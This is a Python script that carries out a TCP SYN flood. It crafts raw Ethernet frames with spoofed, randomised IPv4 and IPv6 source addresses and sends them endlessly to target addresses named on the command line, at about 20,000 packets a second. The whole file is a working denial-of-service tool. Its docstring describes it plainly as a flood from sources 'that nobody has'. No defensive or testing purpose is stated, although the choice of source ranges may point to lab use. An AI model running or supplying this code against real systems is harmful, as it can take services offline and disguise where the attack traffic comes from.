#!/usr/bin/python3
"""A flood of SYNs from sources that nobody has, until it is ended. usage: flood.py INTERFACE MAC PORT ADDRESS ..."""

import random
import socket
import struct
import sys
import time

interface, mac, port = sys.argv[1], bytes.fromhex(sys.argv[2].replace(":", "")), int(sys.argv[3])
line = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
line.bind((interface, 0))
own, chance = line.getsockname()[4], random.Random(1)


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def segment(pseudo):
    ports = struct.pack("!HHIIBBHHH", chance.randrange(1024, 65536), port, chance.getrandbits(32), 0, 0x60, 2, 64000, 0, 0)
    whole = ports + b"\x02\x04\x05\xa0"
    return whole[:16] + struct.pack("!H", checksum(pseudo + struct.pack("!HH", 6, len(whole)) + whole)) + whole[18:]


def frame(address):
    if ":" in address:
        ends = bytes.fromhex("20010db8ffff") + chance.randbytes(10) + socket.inet_pton(socket.AF_INET6, address)
        rest = segment(ends)
        return mac + own + b"\x86\xdd" + struct.pack("!IHBB", 6 << 28, len(rest), 6, 64) + ends + rest
    ends = bytes([100, *chance.randbytes(2), 7]) + socket.inet_pton(socket.AF_INET, address)
    header = struct.pack("!BBHHHBBH", 0x45, 0, 44, 1, 0, 64, 6, 0) + ends
    return mac + own + b"\x08\x00" + header[:10] + struct.pack("!H", checksum(header)) + header[12:] + segment(ends)


frames = [frame(address) for _ in range(20000) for address in sys.argv[4:]]
print("ready", flush=True)
while True:
    # 20,000 a second: a flood of handshakes, not of more than the gateway can receive.
    for number, one in enumerate(frames):
        line.send(one)
        if number % 200 == 199:
            time.sleep(0.01)
